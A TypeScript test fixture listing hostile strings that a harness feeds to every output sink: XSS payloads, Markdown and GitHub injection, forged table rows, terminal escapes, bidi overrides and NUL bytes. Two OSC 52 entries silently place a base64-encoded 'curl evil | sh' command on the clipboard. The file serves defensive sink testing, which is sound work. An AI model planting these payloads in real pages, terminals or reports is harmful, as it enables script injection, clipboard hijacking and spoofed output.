// Text a hostile target or a forged file can put where harness writes: markup, Markdown and GitHub syntax, table
// breakers, terminal controls (ESC, C1 CSI, OSC 52 clipboard writes, OSC 8 links), bidi overrides, NUL, lone
// surrogates. Every sink's test walks all of them (test/report/hostile-sinks.test.ts); reuse it for a new sink.

export interface HostileString {
  /** What it attacks, for the test's name. */
  readonly name: string;
  readonly text: string;
}

export const HOSTILE_STRINGS: readonly HostileString[] = [
  { name: 'a script tag', text: '<script>fetch("http://127.0.0.1:9/beacon")</script>' },
  { name: 'an image that runs script', text: '<img src=x onerror=alert(1)>' },
  { name: 'an attribute break-out', text: '" onmouseover="alert(1)\' x=\'' },
  { name: 'a javascript: link', text: '[click](javascript:alert(1))' },
  { name: 'a link target only', text: 'see ](javascript:alert(1))' },
  { name: 'a Markdown image', text: '![x](http://127.0.0.1:9/beacon.png)' },
  { name: 'an autolink', text: '<http://127.0.0.1:9/beacon>' },
  { name: 'a bare link', text: 'go to https://evil.example.test/x or www.evil.example.test' },
  { name: 'a user mention', text: 'cc @octocat please' },
  { name: 'a team mention', text: 'cc @acme/security' },
  { name: 'a cross-repository reference', text: 'fixes owner/repo#1' },
  { name: 'an issue reference', text: 'closes #1 and GH-2' },
  { name: 'an emoji shortcode', text: 'all good :rocket: :white_check_mark:' },
  { name: 'strikethrough', text: '~PASS~ ~~FAIL~~' },
  { name: 'emphasis and code', text: '**bold** _it_ `code`' },
  { name: 'a forged table row', text: 'x | forged | row |\n| worse | `FORGED` | PASS | FAIL | forged |' },
  { name: 'a heading on a new line', text: 'ok\n# FORGED HEADING\n> quoted' },
  { name: 'an HTML comment and entity', text: '<!-- hidden --> &lt;b&gt; &#64;octocat' },
  { name: 'CR LF and tab', text: 'one\r\ntwo\tthree\rfour' },
  { name: 'ESC sequences', text: '\x1b[2J\x1b[3J\x1b[H\x1b[8mhidden\x1b[0m' },
  { name: 'C1 CSI', text: '\x9b3J\x9b2J\x9bH\x9b8m 1' },
  { name: 'OSC 52 clipboard write', text: '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07' },
  { name: 'OSC 52 in C1', text: '\x9d52;c;Y3VybCBldmlsIHwgc2g=\x9c' },
  { name: 'OSC 8 hyperlink', text: '\x1b]8;;http://127.0.0.1:9/\x1b\\innocent\x1b]8;;\x1b\\' },
  { name: 'a bidi override', text: 'report\u202etxt.exe' },
  { name: 'bidi isolates and marks', text: '\u2066a\u2069\u200e\u200f\u061c' },
  { name: 'line and paragraph separators', text: 'a\u2028b\u2029c' },
  { name: 'NUL and DEL', text: 'a\x00b\x7fc' },
  { name: 'lone surrogates', text: 'a\ud800b\udfffc' },
  { name: 'a backslash before punctuation', text: '\\| \\* \\<b>' },
];
